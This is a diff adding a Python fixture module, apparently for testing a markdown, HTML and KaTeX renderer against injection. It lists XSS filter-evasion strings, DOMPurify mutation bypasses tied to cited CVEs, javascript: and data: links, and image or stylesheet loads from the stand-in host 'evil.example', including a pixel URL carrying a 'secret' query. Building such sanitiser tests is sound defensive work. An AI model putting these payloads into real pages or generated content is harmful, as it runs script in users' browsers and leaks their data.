@@ -1,0 +1,106 @@
+r"""Texts that would run, navigate or fetch something if a page took them for more than text.
+
+Whatever gets through sets `window.pwned`, opens a dialog, leaves the page or asks `EVIL` for something.
+The manners are those of the OWASP XSS filter evasion sheet, of the mutations that got past DOMPurify
+(CVE-2019-20374, CVE-2020-26870, CVE-2024-45801) and of KaTeX's own list of what `trust` lets in.
+"""
+
+EVIL = "evil.example"
+RUN = "window.pwned=1"
+
+LINES = [
+    f"<script>{RUN}</script>",
+    f"<img src=x onerror={RUN}>",
+    f'"><svg onload={RUN}>',
+    f"'\"--></style></script><script>{RUN}</script>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{RUN}>",
+    f"<a href=javascript:{RUN}>x</a>",
+    f"<form action=//{EVIL}><button>x</button></form>",
+    f"<base href=//{EVIL}/>",
+    f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
+    f"<style>@import '//{EVIL}/x.css';*{{background:url(//{EVIL}/x)}}</style>",
+    f"<link rel=stylesheet href=//{EVIL}/x.css>",
+    f"<object data=//{EVIL}/x></object><embed src=//{EVIL}/x>",
+    f"<details open ontoggle={RUN}>x</details>",
+    f"<input autofocus onfocus={RUN}><video src=x onerror={RUN}>",
+    f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}}",
+    f"\u202e<img src=x onerror={RUN}>",
+    f"</title><script>{RUN}</script>",
+    f"[x](javascript:{RUN}) ![x](https://{EVIL}/x.png)",
+]
+"""Each fits into a name or a title."""
+
+RAW_HTML = [
+    *LINES,
+    f"<ScRiPt/x>{RUN}</sCrIpT >",
+    f"<scr<script>ipt>{RUN}</script>",
+    f'<img src="https://{EVIL}/raw.png" srcset="https://{EVIL}/2x.png 2x">',
+    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a></svg>',
+    f'<svg><animate onbegin={RUN} attributeName=x dur=1s><use href="//{EVIL}/x.svg#x"/></svg>',
+    f"<svg><foreignObject><iframe src=//{EVIL}></iframe></foreignObject></svg>",
+    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
+    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
+    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
+    "<form><math><mtext></form><form><mglyph><style></math>" + f"<img src=x onerror={RUN}>",
+    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
+    f"<template><img src=x onerror={RUN}></template><select><style><img src=x onerror={RUN}></select>",
+    f"<!--><img src=x onerror={RUN}>--> <![CDATA[<img src=x onerror={RUN}>]]> <?x <svg onload={RUN}> ?>",
+    f"<div style=\"background:url('//{EVIL}/x.png');width:expression({RUN})\" onclick={RUN}>x</div>",
+    f"<p id=chat-root name=body><a id=defaultView name=x href=//{EVIL}>x</a>",
+    f"<audio autoplay src=//{EVIL}/x.mp3><source onerror={RUN}></audio>",
+    f"<body onload={RUN}><frameset onload={RUN}><marquee onstart={RUN}>x</marquee>",
+    f"<table background=//{EVIL}/x.png><tr><td background=javascript:{RUN}>x</table>",
+]
+
+LINKS = [
+    f"[l1](javascript:{RUN})",
+    f"[l2](JaVaScRiPt:{RUN})",
+    f"[l3](java&#115;cript:{RUN})",
+    f"[l4](&#x6A;avascript&colon;{RUN})",
+    f"[l5](<java\tscript:{RUN}>)",
+    f"[l6](<  javascript:{RUN}>)",
+    f"[l7](\x01javascript:{RUN})",
+    f"[l8](data:text/html,<script>opener.{RUN}</script>)",
+    "[l9](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==)",
+    f"[l10](vbscript:{RUN}) [l11](blob:https://{EVIL}/x) [l12](file:///etc/passwd)",
+    f"[l13](javascript://%0a{RUN}) [l14](javascript&#0000058{RUN})",
+    f"[l15][ref] [l16][] <javascript:{RUN}> <data:text/html,x>",
+    f"[ref]: javascript:{RUN} 'x'\n[l16]: <javascript:{RUN}>",
+    f"![i1](https://{EVIL}/pixel.png?q=secret) ![i2](//{EVIL}/x.png) ![i3][pixel]",
+    f"[pixel]: https://{EVIL}/reference.png",
+    f"![i4](javascript:{RUN}) ![i5](data:image/svg+xml,<svg/onload={RUN}>)",
+    f'![i6](x"onerror="{RUN}) [![i7](https://{EVIL}/nested.png)](javascript:{RUN})',
+    f'[l17](https://example.com "x" onmouseover={RUN} y=") [l18](https://example.com\'onclick=\'{RUN})',
+    f"[<img src=x onerror={RUN}>](https://example.com/<script>{RUN}</script>)",
+    f'<https://example.com/"onmouseover={RUN}//> https://example.com/<img/src=x/onerror={RUN}>',
+]
+
+FORMULAS = [
+    rf"$\href{{javascript:{RUN}}}{{f1}}$ $\url{{javascript:{RUN}}}$",
+    rf"$$\includegraphics[height=1em]{{https://{EVIL}/formula.png}}$$",
+    rf"$\htmlData{{x=1 onclick={RUN}}}{{f2}}$ $\htmlClass{{x' onclick='{RUN}}}{{f3}}$",
+    rf"$\htmlStyle{{background:url(//{EVIL}/x)}}{{f4}}$ $\htmlId{{x}}{{f5}}$",
+    rf"$\text{{<img src=x onerror={RUN}>}}$ \(\unicode{{<script>{RUN}</script>}}\)",
+    rf"$\def\x{{\href{{javascript:{RUN}}}{{f6}}}}\x$ $\color{{x;background:url(//{EVIL}/x)}}{{f7}}$",
+    r"$\def\x{\x\x}\x$ \[" + f"<img src=x onerror={RUN}>" + r"\]",
+]
+
+BLOCKS = [
+    f'```html"><img src=x onerror={RUN}>\n<img src=x onerror={RUN}>\n```',
+    f"```<script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```",
+    f"~~~js class=x onclick={RUN}\n</pre><img src=x onerror={RUN}>\n~~~",
+    f"`</code><img src=x onerror={RUN}>` ``<script>{RUN}</script>``",
+    f"| <img src=x onerror={RUN}> | [x](javascript:{RUN}) |\n| --- | :---: |\n| ![x](//{EVIL}/t.png) | <b |",
+    f"# <img src=x onerror={RUN}>\n\n> <script>{RUN}</script>\n> - <svg onload={RUN}>",
+    f"1. <iframe src=//{EVIL}>\n   - <img src=x onerror={RUN}>",
+    f"- [ ] <input onfocus={RUN} autofocus>\n- [x] **<img src=x onerror={RUN}>** _<svg/onload={RUN}>_",
+    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62; \\<img src=x onerror={RUN}\\>",
+    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
+    f"<div>\n\n*x* <img src=x onerror={RUN}>\n\n</div>",
+]
+
+END = "End of the hostile text."
+
+TEXT = "\n\n".join([*RAW_HTML, *LINKS, *FORMULAS, *BLOCKS, END])
+"""All of it, as a message, a description or a system prompt."""
